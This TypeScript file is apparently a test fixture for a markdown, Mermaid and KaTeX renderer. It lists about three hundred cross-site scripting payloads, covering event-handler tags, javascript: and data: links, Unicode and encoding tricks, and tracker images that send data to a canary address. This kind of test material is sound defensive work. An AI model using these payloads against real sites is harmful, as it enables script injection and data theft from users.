/**
 * Three hundred ways to make a page run something or ask for something, as a model, a tool or a person might write them.
 *
 * `at` is an address that no page may ever ask for. Each calls `alert`, sets `window.taken` or asks for `at` if it gets
 * its way. They are short, because they are cut at every place.
 */

export type Hostile = (at: string) => string

/** Cut at every place: the ones whose first half looks harmless or is read as something else. */
export const nastiest: readonly Hostile[] = [
  (at) => `![a](${at}/i)<img src=${at}/r onerror=alert(1)>`,
  () => "[click](javascript:alert(1)) <javascript:alert(1)>",
  (at) => `[![b][r]][j]\n\n[r]: ${at}/ref\n[j]: javascript:alert(1)`,
  () => "<svg onload=alert(1)><script>window.taken=1</script>",
  (at) => `|a|\n|-|\n|<style>*{background:url(${at}/s)}|`,
  () => '**<iframe srcdoc="<script>top.taken=1</script>">**',
]

const others: readonly Hostile[] = [
  () => "<script>alert(1)</script>",
  (at) => `<script src="${at}/script.js"></script>`,
  () => "<img src=x onerror=alert(1)>",
  (at) => `<img src="${at}/img" srcset="${at}/srcset 2x">`,
  (at) => `<picture><source srcset="${at}/source"><img src="${at}/pic"></picture>`,
  () => "<svg/onload=alert(1)>",
  () => "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  () => "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
  () => "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  () => "<body onload=alert(1)>",
  () => "<details open ontoggle=alert(1)>x</details>",
  () => "<input autofocus onfocus=alert(1)>",
  () => "<a href='javascript:alert(1)' autofocus onfocus='alert(1)'>x</a>",
  () => '<iframe src="javascript:alert(1)"></iframe>',
  (at) => `<iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed">`,
  (at) => `<form action="${at}/form"><button autofocus>Sign in</button><input name=token></form>`,
  (at) => `<base href="${at}/base/"><meta http-equiv="refresh" content="0;url=${at}/meta">`,
  (at) => `<link rel="stylesheet" href="${at}/css"><link rel="prefetch" href="${at}/prefetch">`,
  (at) => `<div style="background:url(${at}/style)">x</div>`,
  (at) => `<video src="${at}/video" autoplay poster="${at}/poster"></video><audio src="${at}/audio" autoplay></audio>`,
  () => "[a](javascript:alert(1))",
  () => "[a](JaVaScRiPt:alert(1))",
  () => "[a](\u0001javascript:alert(1))",
  () => "[a](java&#x0A;script:alert(1))",
  () => "[a](<java\tscript:alert(1)>)",
  () => "[a](javascript&colon;alert(1))",
  () => "[a](vbscript:msgbox(1))",
  () => "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  () => "[a](blob:http://127.0.0.1/x) [b](file:///etc/passwd) [c](//127.0.0.1/x)",
  () => "<javascript:alert(1)> <data:text/html,x>",
  (at) => `![tracker](${at}/plain-image?secret=1)`,
  (at) => `![tracker][ref]\n\n[ref]: ${at}/reference-image "title"`,
  (at) => `[![nested](${at}/nested)](javascript:alert(1))`,
  () => "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  (at) => `See ${at}/autolink and www.example.com and someone@example.com`,
  (at) => `$$\n\\href{javascript:alert(1)}{x} \\includegraphics{${at}/math}\n$$ and $\\url{javascript:alert(1)}$`,
  (at) =>
    `\`\`\`mermaid\ngraph TD\nA["<img src=${at}/mermaid onerror=alert(1)>"]\nclick A "javascript:alert(1)"\n\`\`\``,
  () => "```html\n<script>alert(1)</script>\n```",
  () => '```"><img src=x onerror=alert(1)>\ncode\n```',
  (at) => `[^1]\n\n[^1]: <img src="${at}/footnote" onerror=alert(1)> [x](javascript:alert(1))`,
  () => "- [x] <input type=checkbox onclick=alert(1)>\n- [ ] ]]><script>alert(1)</script>",
  () => "<!--[if gte IE 4]><script>alert(1)</script><![endif]--> --><script>alert(1)</script>",
  () =>
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  () => "\u202etpircs:avaj [\u200bjavascript\u200b:](javascript\u200b:alert(1))",
]

const run = "alert(1)"

/** Elements that run something when they come into a page. */
const handlers: readonly string[] = [
  "<img src=x onerror=X>",
  "<IMG SRC=x ONERROR=X>",
  "<img/src=x/onerror=X>",
  "<img src=x onerror='X'//>",
  '<img src="x" onerror="X" alt="a">',
  "<img src=x:x onerror=X>",
  "<img src onerror=X>",
  "<image src=x onerror=X>",
  "<img\nsrc=x\nonerror=X>",
  "<img\tsrc=x\tonerror=X>",
  "<img src=x on\u0000error=X>",
  "<svg onload=X>",
  "<svg/onload=X//",
  "<svg><script>X</script></svg>",
  "<svg><script href=data:,X />",
  "<svg><a><animate attributeName=href values=javascript:X /></a>",
  "<svg><set attributeName=onload to=X>",
  "<svg><foreignObject><body onload=X>",
  "<svg><image href=x onerror=X>",
  "<svg><style>@import 'javascript:X'</style>",
  "<svg><desc><img src=x onerror=X></desc>",
  "<svg><title><script>X</script></title>",
  "<math><mi//xlink:href='javascript:X'>",
  "<math href=javascript:X>x</math>",
  "<math><maction actiontype=statusline xlink:href=javascript:X>x",
  "<math><annotation-xml encoding=text/html><img src=x onerror=X>",
  "<math><mtext><script>X</script></mtext>",
  "<math><style><img src=x onerror=X></style></math>",
  "<body onload=X>",
  "<body onpageshow=X>",
  "<body onhashchange=X>",
  "<input autofocus onfocus=X>",
  "<select autofocus onfocus=X>",
  "<textarea autofocus onfocus=X>",
  "<keygen autofocus onfocus=X>",
  "<button popovertarget=x onclick=X>x",
  "<div popover id=x onbeforetoggle=X>",
  "<video src=x onerror=X>",
  "<video><source onerror=X>",
  "<audio src=x onerror=X>",
  "<audio onloadstart=X src=x>",
  "<details open ontoggle=X>",
  "<marquee onstart=X>",
  "<object data=javascript:X>",
  "<object onerror=X>",
  "<embed src=javascript:X>",
  "<iframe src=javascript:X>",
  "<iframe srcdoc='<script>X</script>'>",
  "<iframe onload=X>",
  "<frameset onload=X>",
  "<isindex action=javascript:X type=image>",
  "<form action=javascript:X><input type=submit autofocus>",
  "<form><button formaction=javascript:X>x",
  "<a href=javascript:X>x</a>",
  "<a href=' javascript:X'>x</a>",
  "<a href='java\nscript:X'>x</a>",
  "<a href=javascript&#58;X>x</a>",
  "<a href='&#106;avascript:X'>x</a>",
  "<a onmouseover=X>x</a>",
  "<a style=animation-name:x onanimationstart=X>x",
  "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=X>",
  "<link rel=stylesheet href=javascript:X>",
  "<link rel=import href=x onload=X>",
  "<meta http-equiv=refresh content='0;url=javascript:X'>",
  "<base href=javascript:X//>",
  "<bgsound src=javascript:X>",
  "<table background=javascript:X>",
  "<td background=javascript:X>",
  "<layer src=javascript:X>",
  "<xml id=x><x><![CDATA[<img src=x onerror=X>]]></x></xml>",
  "<xss style=behavior:url(x) onclick=X>",
  "<template><script>X</script></template>",
  "<noscript><img src=x onerror=X></noscript>",
  "<noembed><img src=x onerror=X></noembed>",
  "<plaintext><img src=x onerror=X>",
  "<title><img src=x onerror=X></title>",
  "<textarea></textarea><img src=x onerror=X>",
  "<listing>&lt;img src=x onerror=X&gt;</listing>",
  "<script>X</script>",
  "<SCRIPT>X</SCRIPT>",
  "<script\n>X</script>",
  "<script/x>X</script>",
  "<script src=data:,X></script>",
  "<script type=module>X</script>",
  "<<script>X//<</script>",
  "<scr<script>ipt>X</script>",
  "\\<script>X</script>",
  "<script >X</script >",
  "<?xml version=1?><script>X</script>",
  "<!DOCTYPE x [<!ENTITY y 'X'>]>&y;",
  "<![CDATA[<script>X</script>]]>",
  "<!--><script>X</script>-->",
  "<!-- --!><script>X</script>",
  "</p><script>X</script>",
  "&lt;script&gt;X&lt;/script&gt;",
  "&#60;img src=x onerror=X&#62;",
  "\uff1cscript\uff1eX\uff1c/script\uff1e",
  "<\u200bscript>X</script>",
]

/** Where markdown puts an address. */
const links: readonly string[] = [
  "[a](U)",
  "[a](<U>)",
  '[a](U "t")',
  "![a](U)",
  "[![a](U)](U)",
  "[a]: U\n\n[a]",
  "![a][b]\n\n[b]: <U>",
  "<U>",
  "- [ ] [a](U)",
  "|[a](U)|\n|-|",
]
const addresses: readonly string[] = [
  "javascript:X",
  "JAVASCRIPT:X",
  "javascript:%61lert(1)",
  "javascript&#x3a;X",
  "jav&#x09;ascript:X",
  "&#x6A&#x61vascript:X",
  "javascript&Tab;:X",
  "\\javascript:X",
  "feed:javascript:X",
  "view-source:javascript:X",
  "data:text/html,<script>X</script>",
  "data:image/svg+xml,<svg onload=X>",
  "vbscript:X",
  "blob:http://127.0.0.1/a",
  "file:///etc/passwd",
  "//127.0.0.1/a",
]

/** Formulas: with `trust`, KaTeX can link, load and insert tags. */
const formulas: readonly string[] = [
  "\\href{javascript:X}{x}",
  "\\href{data:text/html,X}{x}",
  "\\url{javascript:X}",
  "\\includegraphics{@/g}",
  "\\includegraphics[alt=x]{@/h}",
  "\\htmlData{onclick=X}{x}",
  "\\htmlClass{mine}{x}",
  "\\htmlId{root}{x}",
  "\\htmlStyle{background:url(@/s)}{x}",
  "\\def\\a{\\href{javascript:X}{b}}\\a",
  "\\text{<img src=x onerror=X>}",
  "\\unicode{<img src=x onerror=X>}",
  "\\color{red;background:url(@/c)}x",
  "\\textcolor{javascript:X}{x}",
  "\\rule{9999em}{9999em}",
  "\\def\\a{\\a\\a}\\a",
  "</annotation><script>X</script>",
  "x}\\end{x}<script>X</script>",
]

/** Letters that are not what they look like, and marks where none belong. */
const tricks: readonly string[] = [
  "\u202e[a](javascript:X)\u202c",
  "[a](java\u00adscript:X)",
  "[a](\ufeffjavascript:X)",
  "[a](\u2028javascript:X)",
  "[a](javascript\uff1aX)",
  "[\u0430\u0440\u0440le.com](https://user@127.0.0.1/)",
  "[https://example.com](javascript:X)",
  "https://example.com/<script>X</script>",
  "www.example.com/'onmouseover='X",
  "a@example.com\u0000<img src=x onerror=X>",
  "*<img title='*' src=x onerror=X>",
  "`` ` ``<img src=x onerror=X>",
  "[a]('javascript:X')",
  "[a](javascript:X\\)",
  '[a](#"onclick=X)',
  "<b/onclick=X>[a](</b>)",
  '![a](x" onerror="X)',
  "[a](x 'y' onclick=X)",
  "\ud800<img src=x onerror=X>",
  "<a href=x\u0009onclick=X>a",
]

/** Text around code. */
const fences: readonly string[] = [
  "```<script>X</script>\na\n```",
  '```js" onload="X\na\n```',
  "```html\n<img src=x onerror=X>",
  "~~~svg\n<svg onload=X>\n~~~",
  "- a\n  ```<img src=x onerror=X>\n  b\n  ```",
  "`<img src=x onerror=X>`",
  "``` <script>X</script> ```",
  "    <script>X</script>",
]

const disguised: readonly string[] = [
  ...addresses.map((address, index) => (links[index % links.length] ?? "").replaceAll("U", address)),
  ...addresses.map((address, index) => (links[(index + 3) % links.length] ?? "").replaceAll("U", address)),
  ...addresses.map((address, index) => (links[(index + 7) % links.length] ?? "").replaceAll("U", address)),
  ...links.map((link) => link.replaceAll("U", "javascript:X")),
  ...links.map((link) => link.replaceAll("U", "@/l")),
]

/** Within something else that markdown knows. */
const nested: readonly string[] = handlers
  .filter((_, index) => index % 3 === 0)
  .map((payload, index) => {
    const around = ["**Y**", "> Y", "- Y", "|a|\n|-|\n|Y|", "# Y", "[^1]\n\n[^1]: Y", "~~Y~~"]
    return (around[index % around.length] ?? "").replace("Y", payload)
  })

const written = [...handlers, ...disguised, ...nested, ...fences, ...tricks, ...formulas.map((tex) => `$${tex}$`)].map(
  (text): Hostile =>
    (at) =>
      text.replaceAll("X", run).replaceAll("@", at),
)
const displayed = formulas.map(
  (tex): Hostile =>
    (at) =>
      `$$\n${tex.replaceAll("X", run).replaceAll("@", at)}\n$$`,
)

export const payloads: readonly Hostile[] = [...nastiest, ...others, ...written, ...displayed]

/** Those of formulas, which are drawn by another chunk. */
export const formulaPayloads: readonly Hostile[] = [...displayed, ...written.slice(-formulas.length)]
